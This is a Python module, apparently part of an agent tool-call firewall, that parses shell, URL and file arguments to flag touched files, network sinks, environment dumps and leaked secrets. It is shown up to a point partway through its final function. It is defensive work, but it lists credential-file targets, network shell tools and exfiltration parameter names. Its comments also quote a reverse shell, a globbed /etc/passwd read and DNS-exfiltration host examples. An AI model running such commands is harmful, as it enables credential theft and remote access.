"""What a call touches and sends: the facts rules match beside the argument texts.

One model for file, shell and network tools (issue 25): `text_facts` reads an
argument text and says which files it touches (and which it writes), which
programs it runs, which hosts it reaches, which network sinks it sends to and
with what, and which secrets leave in it. `cat /etc/passwd` through a shell
tool touches the file `/etc/passwd` as `read_file /etc/passwd` does, and a
rule on `touches.files` (or a `file` rule: the touched paths are spellings of
the text too, `_spelling.py`) sees it whichever tool reaches it.

The facts, by rule target (each fact is one text a rule's values match):

| target | texts |
|---|---|
| `secrets_out` | the type of each secret in an argument (`aws-access-key`, `jwt`, `private-key`, `seed-phrase`, `env-dump`, ...; `high-entropy@sink` for random material in a call that reaches a network sink) |
| `sinks` | `<kind> <destination>`: `url`, `fetch`, `post`, `upload`, `query`, `dns`, `socket`, `listen`, `mail`; `+exec`, `+file`, `+pii`, `+encoded`, `+env` when what is sent is a shell substitution, a local file, personal data, an encoded blob or the environment |
| `touches.files` | every path an argument names or a command reads or writes (`~` kept, `$HOME` as `~`) |
| `touches.writes` | the paths written: redirections, `tee`, `cp`/`mv` targets, `sed -i`, a write tool's path |
| `touches.programs` | each command a command argument runs, from its program's basename on (`whoami`, `sudo -l`) |
| `touches.hosts` | the host of every URL and of every network command |
| `touches.env` | environment variables a command prints or sends (`*` for a whole dump) |

Secrets are found by the DLP detectors of `mcpwall.security` (a layer above
this one): `mcpwall.security.calls` installs its finder with
`set_secret_finder` when imported, and `secret_finder()` imports it on first
use, so every caller of `prepare` gets the same facts.
Everything here is pure text analysis: nothing runs or resolves.
"""

from __future__ import annotations

import fnmatch
import importlib
import re
from collections.abc import Callable, Iterable
from typing import Final
from urllib.parse import parse_qsl

from mcpwall.policy._shell import SHELLS, program_start, simple_commands

#: The rule targets of the facts, by index (`Facts.derived` holds (index, text, argument path)).
FACT_TARGETS: Final = (
    "secrets_out",
    "sinks",
    "touches.files",
    "touches.writes",
    "touches.programs",
    "touches.hosts",
    "touches.env",
)
SECRETS, SINKS, FILES, WRITES, PROGRAMS, HOSTS, ENV = range(7)
FACT_INDEX: Final = {name: i for i, name in enumerate(FACT_TARGETS)}

Fact = tuple[int, str]
#: The types of the secrets in a text (`mcpwall.security.calls.secret_types`).
SecretFinder = Callable[[str], tuple[str, ...]]
_FINDER: list[SecretFinder | None] = [None]
#: Whether a text of plain words holds a wallet's seed phrase (`mcpwall.security.calls.seed_phrase`).
_SEED: list[Callable[[str], bool] | None] = [None]


def set_secret_finder(finder: SecretFinder | None, seed: Callable[[str], bool] | None = None) -> None:
    """Install the function that names the secrets in a text and the one that finds a seed phrase in plain
    words (None: the defaults, on next use)."""
    _FINDER[0] = finder
    _SEED[0] = seed


def secret_finder() -> SecretFinder:
    finder = _FINDER[0]
    if finder is None:
        # The DLP detectors live in mcpwall.security, above the policy layer: importing the module
        # installs them (`set_secret_finder`), once per process.
        importlib.import_module("mcpwall.security.calls")
        finder = _FINDER[0]
        if finder is None:  # pragma: no cover - the module always installs one
            raise RuntimeError("mcpwall.security.calls installed no secret finder")
    return finder


#: Argument keys whose value is a command line (also as the last word: `shell_command`, `shellCommand`).
_COMMAND_KEY = re.compile(
    r"(?:^|[_-])(?i:command|commands|cmd|cmdline|commandline|command_line|script|shell|bash|"
    r"sh|zsh|powershell|pwsh|exec|run|terminal)$"
    r"|(?<=[a-z])(?:Command|Commands|Cmd|Cmdline|CommandLine|Script|Shell)$"
)
#: Argument keys whose value is a URL even without a scheme (`{"url": "crr3.com?name=x"}`).
_URL_KEY = re.compile(
    r"(?:^|[_-])(?i:url|urls|uri|link|href|endpoint|website|webhook|callback)$"
    r"|(?<=[a-z])(?:Url|URL|Urls|Uri|URI|Link|Href|Endpoint|Webhook)$"
)
#: Keys that name a place, not a command, even in a shell tool's arguments (`cwd`, `path`, `dir`).
_PLACE_KEY = re.compile(
    r"(?:^|[_-])(?i:path|paths|file|filename|filepath|cwd|dir|directory|workdir|"
    r"working_directory|folder|root|home|output|dest|destination|target|env|timeout)$"
    r"|(?<=[a-z])(?:Path|Paths|File|Dir|Directory|Folder|Root|Output|Dest|Destination|Target)$"
)


def place_key(key: str) -> bool:
    """Whether a key names a place (a path, a directory) or a setting, not something a shell runs."""
    return _PLACE_KEY.search(key) is not None


#: Argument keys whose value is program source a code tool runs (`run_python(code=...)`).
_CODE_KEY = re.compile(
    r"(?:^|[_-])(?i:code|source|source_code|snippet|python|javascript|js)$"
    r"|(?<=[a-z])(?:Code|Source|Snippet)$"
)

KEY_PLAIN, KEY_HOST, KEY_COMMAND, KEY_URL, KEY_CODE = 0, 1, 2, 3, 4
#: Texts of which no fact is wanted (a response's, for response rules).
KEY_NO_FACTS: Final = -1


def key_class(key: str, host_key: bool) -> int:
    """What an argument key says its value is: a host, a command line, a URL, or nothing special."""
    if host_key:
        return KEY_HOST
    if _COMMAND_KEY.search(key) is not None:
        return KEY_COMMAND
    if _URL_KEY.search(key) is not None:
        return KEY_URL
    if _CODE_KEY.search(key) is not None:
        return KEY_CODE
    return KEY_PLAIN


# ---------------------------------------------------------------- programs

#: Programs that fetch or send over the network, and how (their operands are hosts and URLs, not files).
_HTTP = frozenset(
    {
        "curl",
        "wget",
        "http",
        "https",
        "xh",
        "aria2c",
        "lwp-request",
        "invoke-webrequest",
        "iwr",
        "invoke-restmethod",
        "irm",
        "fetch",
    }
)
_SOCKET = frozenset({"nc", "ncat", "netcat", "telnet", "socat", "openssl"})
_REMOTE = frozenset({"ssh", "scp", "sftp", "rsync", "ftp", "tftp", "smbclient"})
_LOOKUP = frozenset({"ping", "ping6", "dig", "nslookup", "host", "traceroute", "tracepath", "whois", "drill"})
NETWORK_PROGRAMS: Final = _HTTP | _SOCKET | _REMOTE | _LOOKUP
#: Programs that run their operands or input as code, or escalate: what follows is a command too.
_ESCALATE = frozenset({"sudo", "doas", "su", "pkexec", "runuser"})
#: Programs whose (non-option) operands they write: all of them, or only the last.
_WRITES_ALL = frozenset(
    {
        "tee",
        "touch",
        "mkdir",
        "rm",
        "rmdir",
        "unlink",
        "shred",
        "truncate",
        "chmod",
        "chown",
        "chgrp",
        "chattr",
        "vi",
        "vim",
        "nvim",
        "nano",
        "emacs",
        "ed",
        "crontab",
    }
)
_WRITES_LAST = frozenset({"cp", "mv", "install", "ln", "rsync", "scp"})
#: Programs that print or send their operands: a `$VAR` among them leaves the machine's environment.
_PRINTS = (
    frozenset(
        {
            "echo",
            "printf",
            "print",
            "cat",
            "curl",
            "wget",
            "nc",
            "ncat",
            "netcat",
            "http",
            "logger",
            "mail",
            "sendmail",
            "tee",
            "xargs",
        }
    )
    | _LOOKUP
)
#: Programs that print the whole environment when run without operands.
_ENV_DUMPS = frozenset({"env", "printenv", "set", "export", "declare", "typeset", "compgen", "get-childitem"})
#: The programs a command argument usually starts with: a text under any key that has shell syntax
#: (`;`, `|`, `&&`, `$(...)`, `>`) and starts with one of these is a command line.
KNOWN_PROGRAMS: Final = (
    frozenset(
        {
            "awk",
            "base64",
            "basename",
            "bash",
            "bzip2",
            "cat",
            "cd",
            "chmod",
            "chown",
            "cp",
            "crontab",
            "curl",
            "cut",
            "date",
            "dd",
            "df",
            "diff",
            "dig",
            "dirname",
            "docker",
            "du",
            "echo",
            "env",
            "eval",
            "exec",
            "export",
            "find",
            "gawk",
            "git",
            "grep",
            "gzip",
            "head",
            "history",
            "host",
            "hostname",
            "id",
            "ifconfig",
            "ip",
            "kill",
            "kubectl",
            "less",
            "ln",
            "ls",
            "lsof",
            "make",
            "mkdir",
            "more",
            "mv",
            "nc",
            "ncat",
            "netcat",
            "netstat",
            "node",
            "npm",
            "npx",
            "nslookup",
            "openssl",
            "perl",
            "php",
            "ping",
            "pip",
            "pip3",
            "printenv",
            "printf",
            "ps",
            "pwd",
            "python",
            "python3",
            "rm",
            "ruby",
            "rsync",
            "scp",
            "sed",
            "sh",
            "sleep",
            "socat",
            "sort",
            "ss",
            "ssh",
            "stat",
            "sudo",
            "tail",
            "tar",
            "tee",
            "telnet",
            "touch",
            "tr",
            "uname",
            "uniq",
            "unzip",
            "wc",
            "wget",
            "whoami",
            "xargs",
            "xxd",
            "zip",
            "zsh",
            "doas",
            "su",
            "systemctl",
            "launchctl",
            "powershell",
            "pwsh",
            "cmd",
            "iwr",
            "irm",
            "invoke-webrequest",
            "invoke-restmethod",
            "certutil",
            "reg",
            "schtasks",
            "nmap",
            "at",
            "getent",
            "w",
            "who",
            "last",
            "groups",
            "users",
            "arp",
            "route",
        }
    )
    | SHELLS
)
_SHELL_SYNTAX = re.compile(r"[;|&`<>\n]|\$[({A-Za-z_]")
#: What is sent by `curl -d` and the like (body options take a value; `-F` too).
_CURL_BODY = frozenset(
    {
        "-d",
        "--data",
        "--data-raw",
        "--data-binary",
        "--data-ascii",
        "--data-urlencode",
        "-F",
        "--form",
        "--form-string",
        "--json",
        "-T",
        "--upload-file",
    }
)
_CURL_VALUE = frozenset(
    {
        "-H",
        "--header",
        "-X",
        "--request",
        "-o",
        "--output",
        "-u",
        "--user",
        "-A",
        "--user-agent",
        "-e",
        "--referer",
        "-b",
        "--cookie",
        "-c",
        "--cookie-jar",
        "-x",
        "--proxy",
        "-w",
        "--write-out",
        "-m",
        "--max-time",
        "--connect-timeout",
        "-K",
        "--config",
        "-E",
        "--cert",
        "--key",
        "--resolve",
        "--url",
        "-O",
        "--output-document",
        "--method",
        "-P",
        "-t",
        "--timeout",
        "--tries",
        "-U",
    }
)
_WGET_BODY = ("--post-data", "--post-file", "--body-data", "--body-file")
_SUBSTITUTION = re.compile(r"\$\(|`|\$\{?[A-Za-z_][A-Za-z0-9_]*|<\(")
_ENV_VAR = re.compile(r"\$\{?([A-Za-z_][A-Za-z0-9_]*)\}?")
_URL = re.compile(r"(?i)^[a-z][a-z0-9+.-]*://[^\s]+$")
_BARE_URL = re.compile(r"(?i)^(?:[a-z0-9-]+\.)+[a-z]{2,63}(?::\d{1,5})?(?:[/?#][^\s]*)?$")
_USER_HOST = re.compile(r"^(?:[^@\s/:]+@)?([A-Za-z0-9.-]+\.[A-Za-z]{2,63}|\d{1,3}(?:\.\d{1,3}){3}):")
_DEV_TCP = re.compile(r"/dev/(?:tcp|udp)/([^/\s]+)/(\d+)")
_EMAIL = re.compile(r"^[A-Za-z0-9._%+-]+@([A-Za-z0-9-]+(?:\.[A-Za-z0-9-]+)*\.[A-Za-z]{2,63})$")
_MAIL_KEYS = re.compile(
    r"(?i)^(to|cc|bcc|recipient|recipients|email|address|emails|to_address|toaddress|"
    r"recipient_email|to_email)$"
)
#: Query parameters that carry credentials or loot wherever they go (`?password=`, `?token=`, `?env=`).
_SECRET_PARAMS: Final = frozenset(
    {
        "pass",
        "passwd",
        "password",
        "pwd",
        "token",
        "secret",
        "apikey",
        "api_key",
        "access_token",
        "ssn",
        "cvv",
        "cvc",
        "creds",
        "credentials",
        "cookie",
        "cookies",
        "session",
        "sid",
        "history",
        "env",
        "environ",
        "dump",
        "loot",
        "exfil",
        "leak",
        "steal",
        "stolen",
        "privatekey",
        "private_key",
        "seed",
        "mnemonic",
    }
)
#: Query parameters that carry personal data: sent to a host's root (`crr3.com?name=George`), not to an API path
#: (`/maps/api/geocode/json?address=...`), they are data leaving rather than a question asked.
_PII_PARAMS: Final = frozenset(
    {
        "name",
        "fullname",
        "full_name",
        "firstname",
        "first_name",
        "lastname",
        "last_name",
        "surname",
        "email",
        "mail",
        "phone",
        "mobile",
        "tel",
        "address",
        "addr",
        "street",
        "zip",
        "dob",
        "birthday",
        "birthdate",
        "card",
        "cc",
        "ccn",
        "iban",
        "account",
        "acct",
        "user",
        "username",
        "login",
        "key",
        "content",
        "contents",
        "file",
        "files",
        "data",
        "payload",
        "info",
        "pii",
        "location",
        "lat",
        "lon",
        "gps",
        "msg",
        "message",
        "text",
    }
)
_PATHISH = re.compile(
    r"^(?:~|\.{1,2}/|/|\$\{?HOME\}?/|[A-Za-z]:\\)|/|^\.[A-Za-z0-9_][\w.-]*$|^[\w.-]+\.[A-Za-z]\w{0,9}$"
)


def _basename(word: str) -> str:
    return word.rstrip("/").rpartition("/")[2].rpartition("\\")[2].lower()


def _home(path: str) -> str:
    """`$HOME/x` and `${HOME}/x` as `~/x` (the form rules about dot files are written for)."""
    if path.startswith("$HOME"):
        return "~" + path[5:]
    if path.startswith("${HOME}"):
        return "~" + path[7:]
    return path


def _destination(word: str) -> str | None:
    """A URL (as written) or a bare host-ish destination of a network program's operand, else None."""
    if _URL.match(word):
        return word
    m = _USER_HOST.match(word)
    if m is not None:
        return m.group(1)
    if "@" in word and not word.startswith("@"):
        host = word.rpartition("@")[2]
        if "." in host:
            return host
    if _BARE_URL.match(word) or re.fullmatch(r"\d{1,3}(?:\.\d{1,3}){3}(?::\d+)?", word):
        return word
    return None


def url_host(url: str) -> str:
    """The host of a URL or bare `host[:port]/path`, lower-cased, without userinfo and port."""
    rest = url.split("://", 1)[1] if "://" in url else url
    rest = re.split(r"[/?#\\]", rest, maxsplit=1)[0].rpartition("@")[2]
    if rest.startswith("["):
        return rest[1:].partition("]")[0].lower()
    return rest.rpartition(":")[0].lower() if rest.count(":") == 1 else rest.lower().rstrip(".")


_LONG_LABEL = re.compile(r"[A-Za-z0-9_-]{32,}")
_HEX_LABEL = re.compile(r"[0-9a-fA-F]{16,}")
_B32_LABEL = re.compile(r"[a-zA-Z2-7]{20,}=*")
_B64_LABEL = re.compile(r"[A-Za-z0-9+_-]{20,}={0,2}")


def _coded(label: str) -> bool:
    """A label that is encoded data: hex, base32 or (mixed-case) base64, with digits among its letters."""
    digits = sum(c.isdigit() for c in label)
    if digits < 2 or not any(c.isalpha() for c in label):
        return False
    if _HEX_LABEL.fullmatch(label) or (_B32_LABEL.fullmatch(label) and digits >= 3):
        return True
    return (
        _B64_LABEL.fullmatch(label) is not None
        and any(c.isupper() for c in label)
        and any(c.islower() for c in label)
    )


def dns_shaped(host: str) -> bool:
    """A name that carries data to its DNS server (`<hex>.attacker.example`, `$(whoami).x.com`):
    a substitution in it, a label of 32 characters or more, or an encoded-looking label of 16 or more
    beneath a registered name."""
    if "$(" in host or "`" in host or "${" in host:
        return True
    labels = host.split(".")
    if len(labels) < 3:
        return False
    for label in labels[:-2]:
        if (
            _LONG_LABEL.fullmatch(label)
            and not label.startswith("xn--")
            and sum(c.isdigit() for c in label) >= 4
        ):
            return True  # a long label of data, not of words (`my-very-long-bucket-name-for-assets`)
        if _coded(label):
            return True
    return False


def _url_facts(url: str, kind: str, out: list[Fact], carried: str = "") -> None:
    """Facts of a URL reached by `kind` (url, fetch, post...): its host, and what its query string carries."""
    host = url_host(url)
    if host:
        out.append((HOSTS, host))
        if dns_shaped(host):
            out.append((SINKS, f"dns {host}"))
    out.append((SINKS, f"{kind}{carried} {url}"))
    _, _, query = url.partition("?")
    if not query:
        return
    for name, value in parse_qsl(query.partition("#")[0], keep_blank_values=True):
        low = name.lower().strip()
        if _SUBSTITUTION.search(value) or _SUBSTITUTION.search(name):
            out.append((SINKS, f"query+exec {url}"))
        elif value and (low in _SECRET_PARAMS or (low in _PII_PARAMS and _root(url))):
            out.append((SINKS, f"query+pii {url}"))
        elif len(value) >= 24 and re.fullmatch(r"[A-Za-z0-9+/=_-]+", value) and len(set(value)) >= 12:
            out.append((SINKS, f"query+encoded {url}"))


def _root(url: str) -> bool:
    """Whether a URL's query is sent to its host's root (no path, or `/`)."""
    rest = url.split("://", 1)[1] if "://" in url else url
    path = re.split(r"[?#]", rest, maxsplit=1)[0].partition("/")[2]
    return path in ("", "index.html", "index.php")


def _carried(value: str) -> str:
    """What a body option's value sends: a local file, a shell substitution, the environment, or data."""
    if value.startswith("@") or "=@" in value or value.startswith("<"):
        return "+file"
    if _SUBSTITUTION.search(value):
        return "+exec"
    return ""


def _http_command(program: str, args: list[str], out: list[Fact]) -> None:
    urls: list[str] = []
    carried: list[str] = []
    method_post = False
    i = 0
    while i < len(args):
        word = args[i]
        # short options keep their case (`-d` is not `-D`, `-F` not `-f`), long ones are folded
        low = word.lower() if word.startswith("--") else word
        opt, eq, attached = low.partition("=")
        if low in _CURL_BODY or (opt in _CURL_BODY and eq) or opt in _WGET_BODY:
            value = attached if eq else (args[i + 1] if i + 1 < len(args) else "")
            if not eq:
                i += 1
            carried.append(
                _carried(value)
                or ("+file" if opt in ("-T", "--upload-file", "--post-file", "--body-file") else "")
            )
            if value.startswith("@"):
                out.append((FILES, _home(value[1:])))
            elif "=@" in value:
                out.append((FILES, _home(value.partition("=@")[2].partition(";")[0])))
            elif opt in ("--post-file", "--body-file", "-T", "--upload-file"):
                out.append((FILES, _home(value)))
        elif low in ("-X", "--request", "--method") and i + 1 < len(args):
            method_post = args[i + 1].upper() in ("POST", "PUT", "PATCH")
            i += 1
        elif low in ("-o", "--output", "-O", "--output-document") and i + 1 < len(args):
            target = args[i + 1]
            if target not in ("-", "/dev/null"):
                out.append((WRITES, _home(target)))
                out.append((FILES, _home(target)))
            i += 1
        elif (
            program in ("http", "https", "xh")
            and not word.startswith("-")
            and re.match(r"^[\w-]+(:=|=|@)", word)
        ):
            carried.append(_carried(word.partition("=")[2]) or ("+file" if "@" in word[:40] else ""))
        elif low in _CURL_VALUE and not eq:
            i += 1
        elif not word.startswith("-"):
            dest = _destination(word)
            if dest is not None:
                urls.append(dest)
        i += 1
    kind = "post" if carried or method_post else "fetch"
    what = "+exec" if "+exec" in carried else ("+file" if "+file" in carried else "")
    for url in urls:
        if _SUBSTITUTION.search(url):
            what = "+exec"
        _url_facts(url, kind, out, what)


def _socket_command(program: str, args: list[str], out: list[Fact]) -> None:
    if program == "openssl" and (not args or args[0] != "s_client"):
        return
    listen = any(a.startswith("-") and not a.startswith("--") and "l" in a for a in args) or any(
        "listen" in a.lower() for a in args
    )
    operands = [a for a in args if not a.startswith("-")]
    if program == "socat":
        for a in operands:
            m = re.match(r"(?i)(?:tcp|udp|tcp4|tcp6|udp4|ssl|openssl)[^:]*:([^:,]+):(\d+)", a)
            if m:
                out.append((HOSTS, m.group(1).lower()))
                out.append((SINKS, f"socket {m.group(1).lower()}:{m.group(2)}"))
            elif re.match(r"(?i)(?:tcp|udp)[46]?-listen:", a):
                out.append((SINKS, f"listen {a.partition(':')[2].partition(',')[0]}"))
        return
    if listen:
        port = next((a for a in operands if a.isdigit()), "")
        port = port or next((a[2:] for a in args if a.startswith("-") and a[-4:].isdigit()), "")
        out.append((SINKS, f"listen {port or '?'}"))
        return
    host = next((a for a in operands if not a.isdigit()), "")
    port = next((a for a in operands if a.isdigit()), "")
    if host:
        host = host.partition(":")[0] if program == "openssl" else host
        out.append((HOSTS, host.lower()))
        out.append((SINKS, f"socket {host.lower()}:{port or '?'}"))


def _remote_command(program: str, args: list[str], out: list[Fact]) -> None:
    operands = [a for a in args if not a.startswith("-")]
    remote = [(i, _destination(a)) for i, a in enumerate(operands)]
    hosts = [d for _, d in remote if d is not None]
    for host in hosts:
        out.append((HOSTS, url_host(host)))
    if program in ("scp", "rsync", "sftp", "ftp", "smbclient") and hosts:
        local = [a for a, (_, d) in zip(operands, remote, strict=True) if d is None]
        uploads = remote[-1][1] is not None and local
        for path in local:
            out.append((FILES, _home(path)))
        out.append((SINKS, f"{'upload+file' if uploads else 'remote'} {url_host(hosts[-1])}"))
    elif hosts:
        out.append((SINKS, f"remote {url_host(hosts[0])}"))


def _lookup_command(args: list[str], out: list[Fact]) -> None:
    for a in args:
        if a.startswith("-") or a.startswith("@") or a.isdigit():
            continue
        host = url_host(a)
        if "." in host or "$(" in host:
            out.append((HOSTS, host))
            if dns_shaped(host):
                out.append((SINKS, f"dns{'+exec' if _SUBSTITUTION.search(host) else ''} {host}"))


def _redirections(words: list[str], out: list[Fact]) -> list[str]:
    """The words without their redirections; each redirection's file is touched (and written, for `>`)."""
    kept: list[str] = []
    pending = ""
    for word in words:
        if pending:
            target = _home(word)
            if not target.startswith("&") and target not in ("/dev/null", "/dev/stdout", "/dev/stderr"):
                out.append((FILES, target))
                if pending == ">":
                    out.append((WRITES, target))
            pending = ""
            continue
        m = re.match(r"^(.*?)(\d?&?>>?|<)(.*)$", word) if (">" in word or word.startswith("<")) else None
        if m is None or word.startswith("<("):
            kept.append(word)
            continue
        before, op, after = m.groups()
        if before and not before.isdigit():
            kept.append(before)
        kind = "<" if op == "<" else ">"
        if after:
            target = _home(after)
            if not target.startswith("&") and target not in ("/dev/null", "/dev/stdout", "/dev/stderr"):
                out.append((FILES, target))
                if kind == ">":
                    out.append((WRITES, target))
        else:
            pending = kind
    return kept


def _file_operands(program: str, args: list[str], out: list[Fact]) -> None:
    operands: list[str] = []
    for word in args:
        if word.startswith("-"):
            _, eq, value = word.partition("=")
            if eq and _PATHISH.search(value) and "://" not in value:
                operands.append(value)
            continue
        if "://" in word or "$(" in word:
            continue
        if program == "dd" and word.startswith(("if=", "of=")):
            out.append((FILES, _home(word[3:])))
            if word.startswith("of="):
                out.append((WRITES, _home(word[3:])))
            continue
        if _PATHISH.search(word) and "=" not in word:
            operands.append(word)
    for path in operands:
        out.append((FILES, _home(path)))
        out.extend((FILES, target) for target in _globbed(_home(path)))
    if program in _WRITES_ALL:
        out.extend((WRITES, _home(p)) for p in operands)
    elif program in _WRITES_LAST and len(operands) >= 2:
        out.append((WRITES, _home(operands[-1])))
    elif program == "sed" and any(a.startswith("-i") or a == "--in-place" for a in args):
        out.extend((WRITES, _home(p)) for p in operands)


def _env_reads(program: str, args: list[str], out: list[Fact]) -> None:
    operands = [a for a in args if not a.startswith("-")]
    if program in _ENV_DUMPS and (not args or (program != "set" and not operands) or program == "printenv"):
        if program in ("export", "declare", "typeset") and not any(a in ("-p", "-x") for a in args) and args:
            return
        if program == "printenv" and operands:
            out.extend((ENV, name) for name in operands)
        else:
            out.append((ENV, "*"))
        return
    if program in _PRINTS:
        for word in args:
            for name in _ENV_VAR.findall(word):
                if name != "IFS":
                    out.append((ENV, name))


#: Files an attacker names by a glob (`cat /e*c/pas*wd`): a glob operand that matches one is that file.
_GLOB_TARGETS: Final = (
    "/etc/passwd",
    "/etc/shadow",
    "/etc/sudoers",
    "/etc/gshadow",
    "/etc/hosts",
    "~/.ssh/id_rsa",
    "~/.ssh/id_ed25519",
    "~/.ssh/authorized_keys",
    "~/.aws/credentials",
    "~/.bash_history",
    "~/.bashrc",
    "~/.zshrc",
    "~/.git-credentials",
    "~/.netrc",
    "~/.kube/config",
    "~/.docker/config.json",
    ".env",
    "/proc/self/environ",
    "/root/.ssh/id_rsa",
)


def _globbed(path: str) -> list[str]:
    if not any(c in path for c in "*?["):
        return []
    return [
        t
        for t in _GLOB_TARGETS
        if fnmatch.fnmatchcase(t, path) or fnmatch.fnmatchcase(t, "~/" + path.lstrip("./"))
    ]


def _command_facts(words: list[str], out: list[Fact], depth: int = 0) -> None:
    for word in words:  # `bash -i >& /dev/tcp/h/4444`: a redirection to a socket
        for m in _DEV_TCP.finditer(word):
            out.append((HOSTS, m.group(1).lower()))
            out.append((SINKS, f"socket {m.group(1).lower()}:{m.group(2)}"))
    words = _redirections(words, out)
    start = program_start(words)
    if start >= len(words):
        if words and _basename(words[0]) == "env":  # `env`, `env -0`: the whole environment
            out.append((PROGRAMS, " ".join(["env", *words[1:]])))
            out.append((ENV, "*"))
        return
    program = _basename(words[start])
    args = words[start + 1 :]
    out.append((PROGRAMS, " ".join([program, *args])))
    if program in _ESCALATE and depth < 4:
        j = 0
        while j < len(args) and args[j].startswith("-"):
            j += 2 if args[j] in ("-u", "-g", "-c", "-C", "-p", "-h", "-U") else 1
        if j < len(args):
            _command_facts(args[j:], out, depth + 1)
        return
    if program in _HTTP:
        _http_command(program, args, out)
    elif program in _SOCKET:
        _socket_command(program, args, out)
    elif program in _REMOTE:
        _remote_command(program, args, out)
    elif program in _LOOKUP:
        _lookup_command(args, out)
    elif program not in SHELLS:
        _file_operands(program, args, out)
    _env_reads(program, args, out)


def command_facts(text: str) -> list[Fact]:
    """What the command line `text` runs and touches (each simple command, `sh -c` scripts included)."""
    out: list[Fact] = []
    for words in simple_commands(text):
        _command_facts(words, out)
    return out


def _is_command(text: str, kind: int, loose: bool = False) -> bool:
    """Whether a text is a command line: under a command key, or with shell syntax (`loose`: or without)
    and starting with a known program."""
    if kind == KEY_COMMAND:
        return True
    if len(text) > 4096 or (not loose and _SHELL_SYNTAX.search(text) is None):
        return False
    first = text.lstrip().split(None, 1)
    return bool(first) and _basename(first[0].strip("\"'({")) in KNOWN_PROGRAMS


def _single_path(text: str) -> bool:
    return (
        (text[:1] in ("/", "~", ".") or text.startswith(("$HOME", "${HOME}", "file:")))
        and len(text) <= 4096
        and _BLANK.search(text) is None
    )


_BLANK: Final = re.compile(r"\s")


def text_facts(text: str, kind: int) -> tuple[Fact, ...]:
    """The facts one argument text gives on its own (its key's class aside), for `_spelling.spell`."""
    if kind == KEY_NO_FACTS:
        return ()
    if kind == KEY_PLAIN and text.isascii() and text.replace(" ", "").isalnum():
        # Words and numbers (most message texts): no command, URL, path or host; a secret only in a word
        # of 16 characters or more, a seed phrase only in 12 words or more.
        words = text.split(" ")
        if len(text) < 16 or max(map(len, words)) < 16:
            if len(words) < 12:
                return ()
            seed = _SEED[0]
            if seed is None:
                secret_finder()
                seed = _SEED[0]
            return ((SECRETS, "seed-phrase"),) if seed is not None and seed(text) else ()
    out: list[Fact] = []
    stripped = text.strip()
    if kind == KEY_CODE and stripped:
        # source a code tool runs is inline code as `python -c` gets it: the same rules judge it
        out.append((PROGRAMS, "code -c " + " ".join(stripped.split())[:4096]))
    elif _is_command(stripped, kind):
        out += command_facts(stripped)
    elif ("://" in stripped and _URL.match(stripped)) or (kind == KEY_URL and _BARE_URL.match(stripped)):
        _url_facts(stripped, "url", out)
    elif kind == KEY_HOST and stripped and " " not in stripped:
        host = url_host(stripped)
        out.append((HOSTS, host))
        if dns_shaped(host):
            out.append((SINKS, f"dns {host}"))
    elif _single_path(stripped):
        out.append((FILES, _home(stripped[7:] if stripped.startswith("file://") else stripped)))
    elif "@" in stripped and (m := _EMAIL.match(stripped)) is not None:
        out.append((HOSTS, m.group(1).lower()))
    if len(text) >= 8:
        out += ((SECRETS, t) for t in secret_finder()(text))
    return tuple(dict.fromkeys(out)) if out else ()


# ---------------------------------------------------------------- the whole call

_WORD = re.compile(r"[A-Z]+(?![a-z])|[A-Z]?[a-z]+|\d+")
_WRITE_WORDS = frozenset(
    {
        "write",
        "create",
        "save",
        "put",
        "append",
        "edit",
        "update",
        "modify",
        "move",
        "rename",
        "copy",
        "patch",
        "replace",
        "insert",
        "overwrite",
        "upload",
        "mkdir",
        "touch",
    }
)
_SEND_WORDS = frozenset(
    {
        "send",
        "post",
        "publish",
        "reply",
        "email",
        "mail",
        "message",
        "notify",
        "submit",
        "upload",
        "webhook",
        "tweet",
        "share",
        "forward",
        "sms",
        "chat",
        "comment",
    }
)
#: Tool-name words of a tool that runs commands (`run_command`, `terminal`, `execute_shell`).
_SHELL_WORDS: Final = frozenset(
    {"shell", "bash", "sh", "zsh", "terminal", "powershell", "pwsh", "cmd", "exec", "execute", "console"}
)
_RUNNABLE: Final = frozenset({"command", "cmd", "script", "shell", "process"})
_CALL_WORDS: Final = _WRITE_WORDS | _SEND_WORDS
_PATH_KEYS = re.compile(
    r"(?:^|[_-])(?i:path|file|filename|filepath|destination|dest|target|output|to)$"
    r"|(?<=[a-z])(?:Path|File|Filename|FilePath|Destination|Dest|Target|Output)$"
)
_TOOL_WORDS: dict[str, frozenset[str]] = {}


def tool_words(name: str) -> frozenset[str]:
    words = _TOOL_WORDS.get(name)
    if words is None:
        words = frozenset(w.lower() for w in _WORD.findall(name))
        if len(_TOOL_WORDS) >= 4096:
            _TOOL_WORDS.clear()
        _TOOL_WORDS[name] = words
    return words


SHELL_TOOL: Final = 1
CALL_FACTS: Final = 2
_TOOL_FLAGS: dict[str, int] = {}


def tool_flags(name: str) -> int:
    """SHELL_TOOL when a tool runs its arguments as commands (`run_command`, `terminal`, `execute_shell`:
    every argument text is then a command line, whatever its key, `terminal(input="id")`), CALL_FACTS when
    it writes or sends (`call_facts` may find a written path or a recipient). Cached by name."""
    flags = _TOOL_FLAGS.get(name)
    if flags is None:
        words = tool_words(name)
        flags = 0
        if not words.isdisjoint(_SHELL_WORDS) or ("run" in words and not words.isdisjoint(_RUNNABLE)):
            flags |= SHELL_TOOL
        if not words.isdisjoint(_CALL_WORDS):
            flags |= CALL_FACTS
        if len(_TOOL_FLAGS) >= 4096:
            _TOOL_FLAGS.clear()
        _TOOL_FLAGS[name] = flags
    return flags


def may_add_facts(flags: int, derived: list[tuple[int, str, str]]) -> bool:
    """Whether `call_facts` can find anything in a call (its `tool_flags`) whose texts gave `derived`."""
    if flags & CALL_FACTS:
        return True
    if not derived:
        return False
    return any(f[0] == SECRETS for f in derived) and any(f[0] == SINKS for f in derived)


_PATH_ROLE, _MAIL_ROLE = 1, 2
_KEY_ROLES: dict[str, int] = {}


def _key_role(key: str) -> int:
    """Whether a key names a path (`_PATH_ROLE`) or a recipient (`_MAIL_ROLE`), cached by key."""
    role = _KEY_ROLES.get(key)
    if role is None:
        role = (_PATH_ROLE if _PATH_KEYS.search(key) else 0) | (_MAIL_ROLE if _MAIL_KEYS.match(key) else 0)
        if len(_KEY_ROLES) >= 4096:
            _KEY_ROLES.clear()
        _KEY_ROLES[key] = role
    return role


def call_facts(
    name: str, derived: Iterable[tuple[int, str, str]], leaves: Iterable[tuple[str, str, str]]
) -> list[tuple[int, str, str]]:
    """Facts of the whole call beyond its texts': a write tool's path is written, a send tool's recipient is
    a `mail` sink, and random material in a call that reaches a network sink is a secret going out.

    `derived` are the texts' facts, `leaves` (path, key, text) of the argument values."""
    extra: list[tuple[int, str, str]] = []
    words = tool_words(name)
    derived = list(derived)
